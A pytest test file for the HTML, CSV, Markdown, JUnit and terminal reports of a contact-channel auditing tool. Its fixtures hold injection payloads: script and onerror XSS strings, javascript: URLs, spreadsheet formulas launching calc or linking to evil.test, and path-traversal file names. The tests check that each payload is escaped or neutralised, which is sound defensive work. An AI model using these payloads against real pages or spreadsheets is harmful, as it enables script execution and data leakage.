"""Reporters: hostile page text stays inert, output is deterministic, gates are right.

The result documents are built here as plain dicts, the way they are read back from JSON:
an `ok` site carrying hostile strings in every page-text field, a `partial` site, an
`error` site, and a mobile result for the first site.
"""

from __future__ import annotations

import copy
import csv
import io
import itertools
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from auditor.result import ResultDocument
from reports import RENDERERS, RenderOptions, clean_text
from reports.csv_report import COLUMNS, neutralise
from reports.html import safe_href, screenshot_src
from reports.markdown import escape as md_escape
from reports.terminal import render_text, summary_table
from reports.words import WORDS, t

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
CONTROL = "bad\x00text\x0bhere\x1b[31m"

# The shape of `ScoringProfile.to_dict()` (auditor/scoring.py).
PROFILE = {
    "name": "consumer",
    "description": f"Default profile {SCRIPT}",
    "source": "auditor/profiles/consumer.toml",
    "defaults_from": None,
    "channels": {"phone": 40.0, "email": 25.0, "chat": 15.0, "form": 20.0},
    "clicks": {"0": 1.0, "1": 0.9, "2": 0.75, "3": 0.5, "4+": 0.25},
    "penalties": {
        "shared_cost_phone": 5.0,
        "premium_rate_phone": 15.0,
        "jsonld_contact_point": -2.0,
    },
    "grades": {"A": 85.0, "B": 70.0, "C": 55.0, "D": 40.0, "E": 25.0, "F": 0.0},
    "human_time": {"mental_s": 1.35, "pointing_s": 1.1},
}


def _channel(found: bool, **kw) -> dict:
    base = {
        "found": found,
        "clicks": None,
        "seconds": None,
        "human_seconds": None,
        "values": [],
        "path": [],
        "evidence": None,
    }
    base.update(kw)
    return base


def _ok_site() -> dict:
    return {
        "url": "http://www.example.test/",
        "final_url": "http://www.example.test/",
        "name": f"Evil {SCRIPT} | Corp",
        "sector": "telecom",
        "device": "desktop",
        "status": "ok",
        "error": None,
        "score": 72,
        "grade": "C",
        "region": "SE",
        "pages_visited": 14,
        "duration_seconds": 9.8,
        "limits_hit": [],
        "consent": {
            "present": True,
            "blocking": True,
            "answer": "reject",
            "platform": "onetrust",
            "hosts": ["www.example.test"],
        },
        "channels": {
            "phone": _channel(
                True,
                clicks=1,
                seconds=1.9,
                human_seconds=6.4,
                values=["+46771252525"],
                number_types={"+46771252525": "SHARED_COST"},
                path=[
                    {"action": "click", "label": IMG, "url": "http://www.example.test/kundservice"}
                ],
                evidence={
                    "url": "http://www.example.test/kundservice",
                    "text": f"0771-25 25 25 {SCRIPT}",
                    "selector": "main p",
                    "screenshot": "shots/site1-phone.png",
                },
            ),
            "email": _channel(False),
            "chat": _channel(
                True,
                clicks=0,
                seconds=0.5,
                human_seconds=2.0,
                values=[],
                vendor="intercom",
                kind="unknown",
                evidence={"url": "javascript:alert(1)", "text": CONTROL},
            ),
            "form": _channel(
                True,
                clicks=2,
                seconds=3.1,
                human_seconds=11.0,
                path=[
                    {"action": "open_menu", "label": "Meny", "url": "http://www.example.test/"},
                    {"action": "click", "label": FORMULA, "url": "http://www.example.test/kontakt"},
                ],
                evidence={"url": "http://www.example.test/kontakt", "text": "Skriv till oss"},
            ),
        },
        "findings": [
            {
                "id": "shared_cost_phone",
                "severity": "medium",
                "message": f"Shared-cost number {IMG}",
                "evidence": {
                    "url": "http://www.example.test/kundservice",
                    "number": "+46771252525",
                },
                "rules": [
                    {
                        "id": "crd-21",
                        "title": "Consumer Rights Directive 2011/83/EU art. 21",
                        "url": "https://eur-lex.europa.eu/eli/dir/2011/83/oj",
                    }
                ],
                "recommendation": f"Offer a geographic number {SCRIPT}",
            },
            {
                "id": "no_email",
                "severity": "high",
                "message": "No e-mail address | anywhere",
                "evidence": {},
                "rules": [],
            },
            {
                "id": "jsonld_contact_point",
                "severity": "info",
                "message": f"JSON-LD {FORMULA}",
                "evidence": {"text": CONTROL},
                "rules": [],
            },
        ],
        "machine_readable": {"contact_points": [{"telephone": "+46771252525"}]},
        "pages": [
            {
                "url": "http://www.example.test/",
                "clicks": 0,
                "seconds": 1.2,
                "status": 200,
                "error": None,
                "template": "start",
            }
        ],
    }


def _partial_site() -> dict:
    return {
        "url": "https://shop.example.test/",
        "final_url": "https://shop.example.test/sv/",
        "name": "Modehuset",
        "sector": "retail",
        "device": "desktop",
        "status": "partial",
        "error": None,
        "score": 45,
        "grade": "D",
        "region": "SE",
        "pages_visited": 6,
        "duration_seconds": 20.5,
        "limits_hit": ["max_pages"],
        "consent": {
            "present": False,
            "blocking": False,
            "answer": None,
            "platform": None,
            "hosts": [],
        },
        "channels": {
            "phone": _channel(False),
            "email": _channel(
                True,
                clicks=3,
                seconds=5.0,
                human_seconds=18.2,
                values=["kundservice@example.test"],
                path=[
                    {"action": "click", "label": "Hjälp", "url": "https://shop.example.test/hjalp"},
                    {
                        "action": "expand",
                        "label": "Kontakta oss",
                        "url": "https://shop.example.test/hjalp",
                    },
                    {
                        "action": "open_dialog",
                        "label": "Mejla",
                        "url": "https://shop.example.test/hjalp",
                        "new_tab": True,
                    },
                ],
                evidence={
                    "url": "https://shop.example.test/hjalp",
                    "text": "kundservice@example.test",
                },
            ),
            "chat": _channel(False, vendor=None, kind=None),
            "form": _channel(False),
        },
        "findings": [
            {
                "id": "no_phone",
                "severity": "critical",
                "message": "No phone number found",
                "evidence": {},
                "rules": [],
            },
        ],
        "machine_readable": {"contact_points": []},
        "pages": [
            {
                "url": "https://shop.example.test/sv/",
                "clicks": 0,
                "seconds": 2.0,
                "status": 200,
                "error": None,
                "template": "start",
            },
            {
                "url": "https://shop.example.test/kontakt",
                "clicks": 1,
                "seconds": None,
                "status": 500,
                "error": "HTTP 500",
                "template": "contact",
            },
        ],
    }


def _error_site() -> dict:
    return {
        "url": "https://blocked.example.test/",
        "final_url": None,
        "name": None,
        "sector": "bank",
        "device": "desktop",
        "status": "error",
        "error": {
            "kind": "bot_protection",
            "message": f"HTTP 403 with a Cloudflare challenge {SCRIPT}",
        },
        "score": None,
        "grade": None,
        "region": None,
        "pages_visited": 0,
        "duration_seconds": 1.5,
        "limits_hit": [],
        "consent": {
            "present": False,
            "blocking": False,
            "answer": None,
            "platform": None,
            "hosts": [],
        },
        "channels": {},
        "findings": [],
        "machine_readable": {},
        "pages": [],
    }


def _document(*site_list: dict) -> dict:
    return {
        "schema": "contact-auditor/1",
        "generated_at": "2026-11-23T12:00:00Z",
        "tool": {"name": "contact-auditor", "version": "0.1.0"},
        "profile": copy.deepcopy(PROFILE),
        "sites": [copy.deepcopy(s) for s in site_list],
    }


@pytest.fixture
def doc() -> dict:
    mobile = _ok_site()
    mobile["device"] = "mobile"
    mobile["score"] = 64
    mobile["grade"] = "C"
    return _document(_ok_site(), _partial_site(), _error_site(), mobile)


@pytest.fixture
def single_doc() -> dict:
    return _document(_ok_site())


@pytest.fixture
def error_doc() -> dict:
    return _document(_error_site())


# --- every renderer -------------------------------------------------------------------


def test_registry_names() -> None:
    assert set(RENDERERS) == {"json", "html", "csv", "markdown", "junit"}


@pytest.mark.parametrize("name", sorted(RENDERERS))
@pytest.mark.parametrize("lang", ["en", "sv"])
def test_deterministic_bytes(name: str, lang: str, doc: dict) -> None:
    options = RenderOptions(lang=lang, fail_under=50)
    first = RENDERERS[name](doc, options)
    second = RENDERERS[name](copy.deepcopy(doc), options)
    assert isinstance(first, bytes)
    assert first == second


@pytest.mark.parametrize("name", sorted(RENDERERS))
def test_control_characters_are_stripped(name: str, doc: dict) -> None:
    out = RENDERERS[name](doc, RenderOptions())
    if name == "json":
        # JSON keeps the document as it is, escaped: \u0000 is legal JSON text.
        assert b"\x00" not in out and b"\x0b" not in out
        return
    assert b"\x00" not in out
    assert b"\x0b" not in out
    assert b"\x1b" not in out


@pytest.mark.parametrize("name", sorted(RENDERERS))
def test_renderers_accept_a_saved_document(name: str, doc: dict) -> None:
    """A document that went through the models and JSON renders too."""
    saved = json.loads(json.dumps(ResultDocument.from_dict(doc).to_dict()))
    assert RENDERERS[name](saved, RenderOptions())


@pytest.mark.parametrize("name", sorted(RENDERERS))
def test_wrong_schema_is_refused(name: str, doc: dict) -> None:
    doc["schema"] = "contact-auditor/99"
    with pytest.raises(ValueError):
        RENDERERS[name](doc, RenderOptions())


@pytest.mark.parametrize("name", sorted(RENDERERS))
def test_empty_document(name: str) -> None:
    assert RENDERERS[name](_document(), RenderOptions())


def test_render_options_are_checked() -> None:
    with pytest.raises(ValueError):
        RenderOptions(lang="de")
    with pytest.raises(ValueError):
        RenderOptions(junit_min_severity="severe")
    with pytest.raises(AttributeError):
        RenderOptions().lang = "sv"  # type: ignore[misc]


def test_json_round_trips(doc: dict) -> None:
    out = RENDERERS["json"](doc, RenderOptions())
    assert json.loads(out) == doc
    assert "Kontaktformulär".encode() not in out  # no report words in the data
    sv = _document(_ok_site())
    sv["sites"][0]["name"] = "Åhléns"
    assert "Åhléns".encode() in RENDERERS["json"](sv, RenderOptions())


# --- HTML -----------------------------------------------------------------------------


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.script_bodies: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_bodies.append(data)


def _parse(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def _html(doc: dict, **kw) -> str:
    return RENDERERS["html"](doc, RenderOptions(**kw)).decode("utf-8")


def test_html_escapes_hostile_text(doc: dict) -> None:
    doc["sites"][1]["sector"] = 'retail" onmouseover="alert(1)'
    doc["sites"][1]["grade"] = '"><svg onload=alert(1)>'
    html = _html(doc)
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    parsed = _parse(html)
    for tag, attrs in parsed.elements:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
    scripts = [a for tag, a in parsed.elements if tag == "script"]
    assert len(scripts) == 1 and "src" not in scripts[0]  # only the report's own script
    assert all("alert" not in body for body in parsed.script_bodies)
    imgs = [a for tag, a in parsed.elements if tag == "img"]
    assert imgs and all("onerror" not in a for a in imgs)
    assert all(a.get("src") == "shots/site1-phone.png" for a in imgs)


def test_html_never_links_javascript_urls(doc: dict) -> None:
    parsed = _parse(_html(doc))
    hrefs = [a.get("href") or "" for tag, a in parsed.elements if tag == "a"]
    assert hrefs
    assert not any(h.lower().startswith("javascript:") for h in hrefs)
    assert safe_href("javascript:alert(1)") is None
    assert safe_href("https://eur-lex.europa.eu/eli/dir/2011/83/oj")


def test_html_is_self_contained(doc: dict) -> None:
    html = _html(doc)
    parsed = _parse(html)
    for tag, attrs in parsed.elements:
        if tag in ("script", "link", "iframe", "object", "embed"):
            assert "src" not in attrs and "href" not in attrs, (tag, attrs)
        if tag == "img":
            assert not (attrs.get("src") or "").startswith(("http:", "https:", "//"))
    assert "@import" not in html and "url(" not in html
    assert 'http-equiv="Content-Security-Policy"' in html
    assert "style" not in {name for _, attrs in parsed.elements for name in attrs}


def test_html_csp_hashes_match(doc: dict) -> None:
    import base64
    import hashlib
    import re

    html = _html(doc)
    for tag in ("style", "script"):
        body = re.search(f"<{tag}>(.*?)</{tag}>", html, re.DOTALL).group(1)
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in html


def test_html_structure_and_accessibility(doc: dict) -> None:
    html = _html(doc, lang="sv")
    parsed = _parse(html)
    tags = [tag for tag, _ in parsed.elements]
    assert '<html lang="sv">' in html
    for landmark in ("header", "main", "footer"):
        assert landmark in tags
    levels = [int(tag[1]) for tag in tags if tag in ("h1", "h2", "h3", "h4", "h5", "h6")]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b - a <= 1 for a, b in itertools.pairwise(levels)), levels
    assert all("scope" in attrs for tag, attrs in parsed.elements if tag == "th")
    assert ":focus-visible" in html
    for word in ("Telefon", "E-post", "Chatt", "Kontaktformulär", "Topplista"):
        assert word in html


def test_html_site_details(single_doc: dict) -> None:
    html = _html(single_doc)
    assert "Grade" in html and ">C<" in html
    assert "72 of 100" in html
    assert "1 click" in html and "1.9 s" in html and "6.4 s" in html
    assert "+46771252525" in html and "shared cost" in html
    assert "intercom" in html
    assert "Open menu" in html and "http://www.example.test/kontakt" in html
    assert 'href="https://eur-lex.europa.eu/eli/dir/2011/83/oj"' in html
    assert "Consumer Rights Directive 2011/83/EU art. 21" in html
    assert "Offer a geographic number" in html  # recommendation is rendered
    assert "reject (only necessary cookies)" in html
    # footer: the profile as tables
    assert "Scoring profile: consumer" in html
    assert "Channel weights" in html and "Grade bands" in html and "premium_rate_phone" in html
    assert "4+ clicks" in html and "Time estimate for a person" in html and "1.35" in html
    assert "0.1.0" in html and "2026-11-23T12:00:00Z" in html
    # one site: no league table
    assert 'id="league"' not in html


def test_html_league_table_and_chart(doc: dict) -> None:
    html = _html(doc)
    assert 'id="league"' in html
    assert '<svg class="chart"' in html
    assert 'id="sector-filter"' in html and 'value="telecom"' in html
    assert 'id="sector-filter-box" hidden' in html  # hidden until the script runs
    league = html[html.index('id="league"') : html.index("</table>", html.index('id="league"'))]
    # best score first, the error site last
    order = [league.index(x) for x in ("#site-1", "#site-4", "#site-2", "#site-3")]
    assert order == sorted(order)


def test_html_error_site_not_scored(error_doc: dict) -> None:
    html = _html(error_doc)
    assert "not scored" in html
    assert "Bot protection blocked the visit" in html
    assert "HTTP 403 with a Cloudflare challenge" in html
    assert "of 100" not in html
    assert "grade-badge grade-none" in html
    assert "Contact channels" not in html
    sv = _html(error_doc, lang="sv")
    assert "inte poängsatt" in sv and "av 100" not in sv


@pytest.mark.parametrize("name", ["html", "csv", "markdown", "junit"])
def test_error_site_never_shows_a_score(name: str) -> None:
    """Even a document that (wrongly) carries a score for an error site shows none."""
    site = _error_site()
    site["score"], site["grade"] = 987, "Q"
    out = RENDERERS[name](_document(site), RenderOptions(fail_under=50)).decode("utf-8-sig")
    assert "987" not in out
    assert "score_below" not in out
    text = render_text(_document(site))
    assert "987" not in text and "not scored" in text


def test_html_finding_texts_per_language(single_doc: dict) -> None:
    finding = single_doc["sites"][0]["findings"][1]
    finding["explanation"] = {"en": "Why it matters", "sv": "Varför det spelar roll"}
    finding["recommendation"] = {"en": "Publish an address", "sv": "Visa en adress"}
    assert "Varför det spelar roll" in _html(single_doc, lang="sv")
    en = _html(single_doc)
    assert "Why it matters" in en and "Publish an address" in en


def test_html_without_sectors_has_no_filter() -> None:
    a, b = _ok_site(), _partial_site()
    a["sector"] = b["sector"] = None
    html = _html(_document(a, b))
    assert 'id="league"' in html and 'id="sector-filter"' not in html


def test_html_screenshot_embedding(tmp_path, single_doc: dict) -> None:
    (tmp_path / "shots").mkdir()
    (tmp_path / "shots" / "site1-phone.png").write_bytes(b"\x89PNG\r\n\x1a\nfake")
    html = _html(single_doc, embed_screenshots=True, report_dir=tmp_path)
    assert 'src="data:image/png;base64,' in html
    options = RenderOptions(embed_screenshots=True, report_dir=tmp_path)
    assert screenshot_src("../secret.png", options) is None
    assert screenshot_src("/etc/passwd.png", options) is None
    assert screenshot_src("javascript:alert(1)//.png", options) is None
    assert screenshot_src("shots/missing.png", options) == "shots/missing.png"
    assert screenshot_src("shots/x.svg", options) is None


# --- CSV ------------------------------------------------------------------------------


def _csv_rows(doc: dict) -> list[dict[str, str]]:
    out = RENDERERS["csv"](doc, RenderOptions())
    assert out.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(out.decode("utf-8-sig"), newline="")))


def test_csv_columns_and_rows(doc: dict) -> None:
    out = RENDERERS["csv"](doc, RenderOptions()).decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(out)))
    assert tuple(header) == COLUMNS
    rows = _csv_rows(doc)
    assert len(rows) == 4
    ok = rows[0]
    assert ok["phone_found"] == "true" and ok["phone_clicks"] == "1"
    assert ok["phone_seconds"] == "1.9" and ok["phone_human_seconds"] == "6.4"
    assert ok["phone_values"] == "'+46771252525"  # E.164 is neutralised too (documented)
    assert ok["email_found"] == "false" and ok["email_clicks"] == ""
    assert ok["chat_vendor"] == "intercom" and ok["chat_kind"] == "unknown"
    assert ok["findings"] == "shared_cost_phone no_email jsonld_contact_point"
    assert ok["generated_at"] == "2026-11-23T12:00:00Z"
    assert rows[3]["device"] == "mobile"
    err = rows[2]
    assert err["status"] == "error" and err["error_kind"] == "bot_protection"
    assert err["score"] == "" and err["grade"] == ""
    assert err["phone_found"] == ""  # unknown, not "not found"


def test_csv_neutralises_formulas() -> None:
    site = _ok_site()
    site["name"] = FORMULA
    site["sector"] = "+cmd|' /C calc'!A0"
    site["url"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    site["region"] = "-2+3"
    site["channels"]["email"] = _channel(True, clicks=1, values=["=1+1@evil.test"])
    rows = _csv_rows(_document(site))
    row = rows[0]
    assert row["name"] == "'" + FORMULA
    assert row["sector"].startswith("'+")
    assert row["url"].startswith("'@")
    assert row["email_values"].startswith("'=")
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    assert neutralise("Kundservice") == "Kundservice"


def test_csv_swedish_letters() -> None:
    site = _ok_site()
    site["name"] = "Åhléns Kontaktformulär"
    out = RENDERERS["csv"](_document(site), RenderOptions())
    assert "Åhléns Kontaktformulär".encode() in out


# --- JUnit ----------------------------------------------------------------------------


def _junit(doc: dict, **kw) -> ET.Element:
    return ET.fromstring(RENDERERS["junit"](doc, RenderOptions(**kw)))


def _failures(case: ET.Element) -> list[str]:
    return [f.get("type") for f in case.findall("failure")]


def test_junit_failures(doc: dict) -> None:
    root = _junit(doc, fail_under=50)
    suite = root.find("testsuite")
    cases = suite.findall("testcase")
    assert len(cases) == 4 and suite.get("tests") == "4"
    ok, partial, error, mobile = cases
    assert ok.get("classname") == "contact-auditor.desktop"
    assert mobile.get("classname") == "contact-auditor.mobile"
    assert _failures(ok) == ["no_email"]  # high fails; medium and info do not
    assert _failures(partial) == ["score_below", "no_phone"]
    assert _failures(error) == ["status_error"]
    assert "bot_protection" in error.find("failure").get("message")
    assert _failures(mobile) == ["no_email"]
    assert suite.get("failures") == "4"
    assert suite.get("timestamp") == "2026-11-23T12:00:00Z"


def test_junit_thresholds(doc: dict) -> None:
    root = _junit(doc, junit_min_severity="medium")
    ok = root.find("testsuite").findall("testcase")[0]
    assert _failures(ok) == ["no_email", "shared_cost_phone"]  # most severe first
    root = _junit(doc, junit_min_severity="critical")
    ok, partial, error, _mobile = root.find("testsuite").findall("testcase")
    assert _failures(ok) == [] and _failures(partial) == ["no_phone"]
    assert _failures(error) == ["status_error"]
    assert root.find("testsuite").get("failures") == "2"


def test_junit_hostile_text(doc: dict) -> None:
    out = RENDERERS["junit"](doc, RenderOptions(junit_min_severity="info"))
    root = ET.fromstring(out)  # well-formed despite \x00 and \x0b in page text
    text = ET.tostring(root, encoding="unicode")
    assert "<script>" not in out.decode()
    assert any(SCRIPT in (f.text or "") for f in root.iter("failure"))
    assert "\x00" not in text and "\x0b" not in text


# --- Markdown -------------------------------------------------------------------------


def test_markdown_escapes(doc: dict) -> None:
    md = RENDERERS["markdown"](doc, RenderOptions()).decode("utf-8")
    table = [line for line in md.splitlines() if line.startswith("|")]
    header_cells = table[0].count(" | ")
    for line in table[2:]:
        unescaped = line.replace("\\|", "")
        assert unescaped.count(" | ") == header_cells, line
    assert "Evil &lt;script&gt;alert(1)&lt;/script&gt; \\| Corp" in md
    assert "<script" not in md and "<img" not in md
    assert "No e-mail address \\| anywhere" in md
    assert md_escape("a|b*c_[d](e)`f`<g>&@user") == (
        "a\\|b\\*c\\_\\[d\\](e)\\`f\\`&lt;g&gt;&amp;@\u2060user"
    )


def test_markdown_error_site(error_doc: dict) -> None:
    md = RENDERERS["markdown"](error_doc, RenderOptions()).decode("utf-8")
    row = next(line for line in md.splitlines() if "blocked.example.test" in line)
    assert "not scored" in row and "bot\\_protection" in row
    assert len(md.encode()) < 65536


def test_markdown_worst_findings_first(doc: dict) -> None:
    md = RENDERERS["markdown"](doc, RenderOptions()).decode("utf-8")
    bullets = [line for line in md.splitlines() if line.startswith("- **")]
    assert bullets[0].startswith("- **Critical**")
    assert not any("**Info**" in b for b in bullets)


# --- terminal -------------------------------------------------------------------------


def test_terminal_table(doc: dict) -> None:
    table = summary_table(doc)
    assert table.row_count == 4
    text = render_text(doc)
    assert text == render_text(copy.deepcopy(doc))
    assert "not scored" in text
    assert "–" in text  # e-mail not found on the first site
    assert "\x1b" not in text and "\x00" not in text
    assert "[bold" not in text or "[bold" in json.dumps(doc)


def test_terminal_does_not_interpret_markup() -> None:
    site = _ok_site()
    site["name"] = "[bold red]Shouting[/bold red] [link=http://evil.test]x[/link]"
    text = render_text(_document(site))
    assert "[bold red]Shouting[/bold red]" in text


# --- words ----------------------------------------------------------------------------


def test_words_cover_both_languages() -> None:
    assert set(WORDS["en"]) == set(WORDS["sv"])
    assert t("sv", "channel.phone") == "Telefon"
    assert t("sv", "channel.email") == "E-post"
    assert t("sv", "channel.chat") == "Chatt"
    assert t("sv", "channel.form") == "Kontaktformulär"
    assert t("en", "clicks", count=1) == "1 click"
    assert t("en", "clicks", count=2) == "2 clicks"
    assert t("sv", "clicks", count=2) == "2 klick"


def test_clean_text() -> None:
    assert clean_text("a\x00b\x0bc\td\ne\ud800f\ufffe") == "abc\td\nef"
    assert clean_text(None) == ""


# --- HTML: the report layout (comparison, consistent help, overview) -------------------


def test_html_compares_desktop_and_mobile() -> None:
    desktop, mobile = _ok_site(), _ok_site()
    mobile["device"], mobile["score"], mobile["grade"] = "mobile", 64, "C"
    mobile["channels"]["phone"]["clicks"] = 3
    mobile["channels"]["form"] = _channel(False)
    mobile["findings"] = mobile["findings"][:1]
    html = _html(_document(desktop, _partial_site(), mobile))
    block = html[html.index('<section class="compare"') : html.index("</section>", html.index('<section class="compare"'))]
    assert "Phone: 1 click on desktop, 3 clicks on mobile" in block
    assert "Contact form: 2 clicks on desktop, not found on mobile" in block
    assert "Score: 72 on desktop, 64 on mobile" in block
    assert "Only on desktop: no_email" in block  # a finding without a title: its id
    # the pair is shown together: comparison, desktop section, mobile section, then the rest
    order = [html.index(x) for x in ('id="compare-1"', 'id="site-1"', 'id="site-3"', 'id="site-2"')]
    assert order == sorted(order)
    sv = _html(_document(desktop, mobile), lang="sv")
    assert "Telefon: 1 klick på dator, 3 klick på mobil" in sv
    # one device only: no comparison
    assert 'class="compare"' not in _html(_document(_ok_site(), _partial_site()))


def test_html_same_devices_say_so() -> None:
    mobile = _ok_site()
    mobile["device"] = "mobile"
    html = _html(_document(_ok_site(), mobile))
    assert "No differences: both devices reach every channel" in html


def test_html_shows_the_pages_compared_for_consistent_help(single_doc: dict) -> None:
    single_doc["sites"][0]["findings"].append(
        {
            "id": "inconsistent_help",
            "severity": "medium",
            "message": "Help moves",
            "evidence": {
                "mechanism": f"Kontakta oss {SCRIPT}",
                "problem": "moved",
                "pages": [
                    {"url": "http://www.example.test/", "position": "top"},
                    {"url": "http://www.example.test/artikel", "position": "bottom"},
                ],
                "pages_compared": [
                    "http://www.example.test/",
                    "http://www.example.test/kontakt",
                    "http://www.example.test/artikel",
                ],
            },
            "rules": [],
        }
    )
    html = _html(single_doc)
    table = html[html.index('<table class="compared">') : html.index("</table>", html.index('<table class="compared">'))]
    assert "Pages compared (3)" in table
    assert "Where “Kontakta oss &lt;script&gt;alert(1)&lt;/script&gt;” is" in table
    rows = table.split("<tr>")[2:]
    assert "http://www.example.test/kontakt" in rows[1] and "–" in rows[1]
    assert "at the top (header)" in rows[0] and "at the bottom (footer)" in rows[2]
    assert "moved to another part of the page" in html
    sv = _html(single_doc, lang="sv")
    assert "Jämförda sidor (3)" in sv and "nederst (sidfoten)" in sv


def test_html_overview_figures_and_worst_findings(doc: dict) -> None:
    html = _html(doc)
    assert 'class="kpis"' in html and "Sites audited" in html
    assert "1 could not be audited" in html
    assert "Average score" in html and "60" in html  # (72 + 45 + 64) / 3
    top = html[html.index('class="top-findings"') : html.index("</ol>", html.index('class="top-findings"'))]
    # most severe first; the same finding on desktop and mobile is listed once
    assert top.index("No phone number found") < top.index("No e-mail address")
    assert top.count("No e-mail address") == 1 and "desktop, mobile" in top
    assert "JSON-LD" not in top  # info findings are notes, not problems


def test_html_absolute_screenshot_inside_the_report_folder(tmp_path, single_doc: dict) -> None:
    (tmp_path / "shots").mkdir()
    (tmp_path / "shots" / "a.png").write_bytes(b"\x89PNG\r\n\x1a\nfake")
    options = RenderOptions(report_dir=tmp_path)
    assert screenshot_src(str(tmp_path / "shots" / "a.png"), options) == "shots/a.png"
    assert screenshot_src(str(tmp_path.parent / "elsewhere.png"), options) is None
    assert screenshot_src(f"{tmp_path}/../x/a.png", options) is None
    assert screenshot_src(str(tmp_path / "shots" / "a.png"), RenderOptions()) is None
